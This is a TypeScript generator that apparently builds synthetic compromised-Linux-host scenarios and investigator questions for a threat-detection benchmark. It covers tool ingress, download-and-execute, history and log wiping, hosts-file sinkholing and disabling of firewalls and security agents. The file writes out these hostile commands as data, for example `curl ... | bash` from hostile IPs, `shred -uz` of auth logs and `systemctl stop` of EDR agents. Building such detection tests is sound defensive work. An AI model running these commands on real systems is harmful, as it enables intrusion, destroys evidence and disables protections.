// Tool transfer and covering tracks: ingress tools, download-and-execute, history and log wiping,
// /etc/hosts sinkholing, disabling firewalls and security agents.
import { run, withDecoys, type Family } from "./kit.js";
import { hostileIp } from "./fleet.js";
import { serviceUser } from "./attacks-miners.js";

const TOOLS = ["linpeas.sh", "pspy64", "les.sh", "chisel", "socat", "nmap", "frpc", "gs-netcat", "LinEnum.sh", "xmrig", "pnscan", "busybox", "ngrok", "tsh"];

const ingress: Family = {
  name: "ingress-tool-transfer", kind: "attack", attack: ["T1105", "T1059.004"], count: 4,
  sources: ["Atomic Red Team T1105", "Sigma proc_creation_lnx_wget_download_suspicious_directory", "Sigma file_event_lnx_wget_download_file_in_tmp_dir", "Sigma proc_creation_lnx_susp_exec_from_dev_shm"],
  q: {
    direct: ["were any hacking tools downloaded into /tmp or /dev/shm on {host}?", "check {env} for ingress tool transfer", "did anyone pull linpeas, pspy or chisel onto the {role}?", "any executables dropped in world-writable dirs?"],
    paraphrase: ["did someone bring their own programs onto {host}?", "is there anything on {host} that was fetched from the internet and made runnable?", "did an intruder unpack a toolkit on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "k8s", "ci-runner", "bastion"] as const));
    const h = b.h;
    const ip = hostileIp(rng);
    const port = rng.pick([80, 8000, 8080, 443, 9000]);
    const dir = rng.pick(["/tmp", "/dev/shm", "/var/tmp", "/tmp/.cache"]);
    const tools = rng.sample(TOOLS, rng.int(1, 3));
    const user = rng.chance(0.5) ? { name: "root", uid: 0, home: "/root" } : rng.pick([b.cloudUser, ...b.admins]);
    const cmds: string[] = [`cd ${dir}`];
    for (const t of tools) {
      const path = `${dir}/${t}`;
      cmds.push(rng.chance(0.5) ? `wget http://${ip}:${port}/${t} -O ${path}` : `curl -sk -o ${path} http://${ip}:${port}/${t}`, `chmod +x ${path}`);
      h.file(path, { uid: user.uid, gid: user.uid, mode: "0755", size: rng.int(40_000, 9_000_000), mtime: h.recent(600, 86_400 * 2) });
      h.plant(path);
    }
    const first = tools[0] ?? "x";
    cmds.push(`./${first}`);
    h.history(user.uid, user.home, cmds, h.recent(600, 86_400 * 2));
    if (rng.chance(0.5)) {
      const pid = run(h, { name: first.slice(0, 15), path: `${dir}/${first}`, cmdline: `./${first}`, uid: user.uid, cwd: dir, ageMin: 60, ageMax: 3_600 });
      if (["chisel", "frpc", "gs-netcat", "ngrok", "tsh"].includes(first)) h.conn(pid, ip, port);
    }
    h.plant(ip);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip, `${dir}/${first}`] });
  },
};

const downloadExec: Family = {
  name: "download-exec", kind: "attack", attack: ["T1105", "T1059.004"], count: 4,
  sources: ["Sigma proc_creation_lnx_susp_pipe_shell", "Sigma proc_creation_lnx_curl_wget_exec_tmp", "Red Canary Threat Detection Report: Linux download-and-execute"],
  q: {
    direct: ["is anything piping curl or wget into a shell on {host}?", "any download-and-execute activity in {env}?", "check the {role} for curl | bash from unknown hosts"],
    paraphrase: ["is {host} running a script straight off the internet right now?", "did something on the {role} fetch instructions from outside and run them?", "is a server of ours taking orders from an unknown website?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "cache", "k8s", "db"] as const));
    const h = b.h;
    const su = serviceUser(b);
    const ip = hostileIp(rng);
    const script = rng.pick(["x.sh", "b.sh", "i.sh", "run", "ff.sh", "c.sh", "1.sh"]);
    const cmd = rng.pick([`curl -fsSL http://${ip}/${script} | bash`, `wget -qO- http://${ip}/${script} | sh`, `(curl -s http://${ip}:8080/${script}||wget -q -O- http://${ip}:8080/${script})|bash`, `curl -sk https://${ip}/${script} | sudo bash`]);
    const dash = h.spec.distro.pkg === "deb" ? "/usr/bin/dash" : "/usr/bin/bash";
    const sh = run(h, { name: "sh", path: dash, cmdline: `sh -c ${cmd}`, uid: su.uid, parent: su.parent, cwd: su.cwd, ageMin: 30, ageMax: 1_800 });
    const dl = cmd.includes("wget -qO-") ? "wget" : "curl";
    const c = run(h, { name: dl, path: `/usr/bin/${dl}`, cmdline: cmd.split("|")[0]?.trim().replace(/^\(/, "") ?? cmd, uid: su.uid, parent: sh, cwd: su.cwd, ageMin: 30, ageMax: 30 });
    h.conn(c, ip, cmd.includes(":8080") ? 8080 : cmd.includes("https") ? 443 : 80);
    run(h, { name: "bash", path: "/usr/bin/bash", cmdline: "bash", uid: su.uid, parent: sh, cwd: su.cwd, ageMin: 30, ageMax: 30 });
    h.plant(cmd, ip);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip] });
  },
};

const HIST_WIPES = ["unset HISTFILE", "history -c", "export HISTFILESIZE=0", "export HISTSIZE=0", "rm -f ~/.bash_history", "cat /dev/null > ~/.bash_history", "history -w /dev/null", "echo '' > ~/.bash_history"];

const histWipe: Family = {
  name: "history-wipe", kind: "attack", attack: ["T1070.003"], count: 4,
  sources: ["Atomic Red Team T1070.003: Clear Bash history (ln dev/null)", "Atomic Red Team T1070.003: Clear and Disable Bash History Logging", "Sigma lnx_shell_clear_cmd_history", "Sigma proc_creation_lnx_susp_history_delete"],
  q: {
    direct: ["did anyone clear or disable shell history on {host}?", "check {env} for history tampering (unset HISTFILE, history -c)", "is bash history being sent to /dev/null on the {role}?"],
    paraphrase: ["are attackers covering their tracks on {host}?", "is someone hiding what they typed on {host}?", "did anyone erase the record of their commands on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "bastion", "cache"] as const));
    const h = b.h;
    const user = rng.chance(0.5) ? { name: "root", uid: 0, home: "/root" } : rng.pick([b.cloudUser, ...b.admins]);
    const hist = `${user.home}/.bash_history`;
    const variant = rng.int(0, 2);
    if (variant === 0) {
      h.remove("shell_history", (r) => r.history_file === hist);
      h.file(hist, { uid: user.uid, gid: user.uid, mode: "0777", size: 9, type: "symlink", symlink_target: "/dev/null", mtime: h.recent(600, 86_400 * 3) });
      h.plant(hist);
    } else {
      const wipes = rng.sample(HIST_WIPES, rng.int(1, 3));
      h.history(user.uid, user.home, ["w", "id", `cat /etc/passwd`, ...wipes], h.recent(600, 86_400 * 3));
      h.plant(...wipes);
    }
    if (variant !== 1) {
      const sess = run(h, { name: "bash", path: "/usr/bin/bash", cmdline: "-bash", uid: user.uid, parent: b.sshd, cwd: user.home, ageMin: 300, ageMax: 7_200 });
      h.add("process_envs", { pid: sess, key: "HISTFILE", value: "/dev/null" });
      h.add("process_envs", { pid: sess, key: "HOME", value: user.home });
      h.plant("HISTFILE");
    }
    return withDecoys(ctx, { hosts: [{ b, compromised: true }] });
  },
};

const logWipe: Family = {
  name: "log-wipe", kind: "attack", attack: ["T1070.002", "T1070.004"], count: 4,
  sources: ["Sigma proc_creation_lnx_clear_logs", "Sigma lnx_clear_syslog", "Atomic Red Team T1070.004: Overwrite and delete a file with shred", "MITRE ATT&CK T1070.002 Clear Linux or Mac System Logs"],
  q: {
    direct: ["were any logs wiped on {host}?", "did someone truncate auth.log, secure or wtmp in {env}?", "check the {role} for log tampering", "any shred or truncate on /var/log?"],
    paraphrase: ["are attackers covering their tracks on {host}?", "did somebody erase the login records on {host}?", "is evidence missing from the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "bastion", "k8s"] as const));
    const h = b.h;
    const auth = h.spec.distro.pkg === "deb" ? "/var/log/auth.log" : "/var/log/secure";
    const cmds = rng.sample([`shred -uz ${auth}`, `truncate -s 0 ${auth}`, "cat /dev/null > /var/log/wtmp", "echo > /var/log/lastlog", "rm -rf /var/log/*.gz", "journalctl --rotate && journalctl --vacuum-time=1s", `> ${auth}`, "truncate -s 0 /var/log/wtmp /var/log/btmp"], rng.int(2, 3));
    h.history(0, "/root", ["sudo -i", ...cmds], h.recent(600, 86_400 * 2));
    const t = h.recent(600, 86_400 * 2);
    h.file(auth, { mode: "0640", uid: 104, gid: 4, size: 0, mtime: t });
    h.file("/var/log/wtmp", { mode: "0664", gid: 43, size: 0, mtime: t });
    if (cmds.some((c) => c.includes("wtmp"))) h.remove("last", () => true);
    h.plant(...cmds);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }] });
  },
};

const SECURITY_DOMAINS = [
  "ts01-b.cloudsink.net lfodown01-b.cloudsink.net", "update.aegis.aliyun.com", "download.qualys.com qagpublic.qg2.apps.qualys.com", "agent-api.sentinelone.net",
  "api.sandfly.io", "intake.logs.datadoghq.com", "collector.newrelic.com", "rpm.nessus.org", "telemetry.falco.org",
];
const MIRRORS = ["archive.ubuntu.com security.ubuntu.com", "deb.debian.org security.debian.org", "cdn.redhat.com", "download.docker.com", "pypi.org files.pythonhosted.org", "registry.npmjs.org"];

const hostsTamper: Family = {
  name: "hosts-tamper", kind: "attack", attack: ["T1562.001", "T1565.001"], count: 4,
  sources: ["Trend Micro: Kinsing/Watchdog scripts blocking security agents via /etc/hosts", "Cado Security: Watchdog/TeamTNT disabling Alibaba Cloud Aegis", "MITRE ATT&CK T1562.001 Impair Defenses"],
  q: {
    direct: ["has /etc/hosts been tampered with on {host}?", "are security vendor domains sinkholed in /etc/hosts anywhere in {env}?", "check the {role} for hosts-file redirection of package mirrors"],
    paraphrase: ["is {host} being prevented from reaching our security tools?", "could {host} be tricked into downloading updates from the wrong place?", "did anyone mess with name lookups on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "k8s", "cache"] as const));
    const h = b.h;
    if (rng.chance(0.55)) {
      for (const d of rng.sample(SECURITY_DOMAINS, rng.int(1, 3))) {
        h.add("etc_hosts", { address: rng.pick(["127.0.0.1", "0.0.0.0"]), hostnames: d });
        h.plant(d);
      }
    } else {
      const ip = hostileIp(rng);
      const m = rng.pick(MIRRORS);
      h.add("etc_hosts", { address: ip, hostnames: m });
      h.plant(ip, m);
    }
    const r = h.rows("file").find((f) => f.path === "/etc/hosts");
    if (r) r.mtime = String(h.recent(600, 86_400 * 3));
    return withDecoys(ctx, { hosts: [{ b, compromised: true }] });
  },
};

const impair: Family = {
  name: "defense-impair", kind: "attack", attack: ["T1562.001", "T1562.004"], count: 4,
  sources: ["Sigma proc_creation_lnx_disable_ufw", "Sigma proc_creation_lnx_iptables_flush_ufw", "Sigma proc_creation_lnx_security_tools_disabling", "Sigma lnx_auditd_disable_system_firewall"],
  q: {
    direct: ["was the firewall disabled on {host}?", "did anyone stop security agents or set SELinux permissive in {env}?", "check the {role} for iptables flushes or ufw disable", "any defence evasion on {host}?"],
    paraphrase: ["did someone switch off our protections on {host}?", "is the security software on {host} still running, or did someone kill it?", "were the locks taken off the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "k8s", "cache", "broker"] as const));
    const h = b.h;
    const deb = h.spec.distro.pkg === "deb";
    const agent = rng.pick([["falcon-sensor.service", "CrowdStrike Falcon Sensor"], ["auditd.service", "Security Auditing Service"], ["wazuh-agent.service", "Wazuh agent"]] as const);
    const cmds = rng.sample([
      deb ? "ufw disable" : "systemctl stop firewalld", "iptables -F", "iptables -P INPUT ACCEPT", deb ? "systemctl stop apparmor" : "setenforce 0",
      `systemctl stop ${agent[0]}`, `systemctl disable ${agent[0]}`, "echo 0 > /proc/sys/kernel/nmi_watchdog", "curl http://update.aegis.aliyun.com/download/uninstall.sh | bash",
    ], rng.int(2, 4));
    if (!cmds.some((c) => c.includes(agent[0]))) cmds.push(`systemctl stop ${agent[0]}`);
    h.history(0, "/root", cmds, h.recent(600, 86_400 * 2));
    h.remove("systemd_units", (u) => u.id === agent[0]);
    h.remove("processes", (p) => p.cgroup_path === `/system.slice/${agent[0]}`);
    h.unit(agent[0], agent[1], { active: "inactive", sub: "dead", state: cmds.some((c) => c.startsWith("systemctl disable")) ? "disabled" : "enabled" });
    if (!deb && cmds.includes("setenforce 0")) h.add("selinux_settings", { scope: "runtime", key: "enforce", value: "0" });
    h.plant(...cmds);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }] });
  },
};

export const EVASION_FAMILIES: Family[] = [ingress, downloadExec, histWipe, logWipe, hostsTamper, impair];
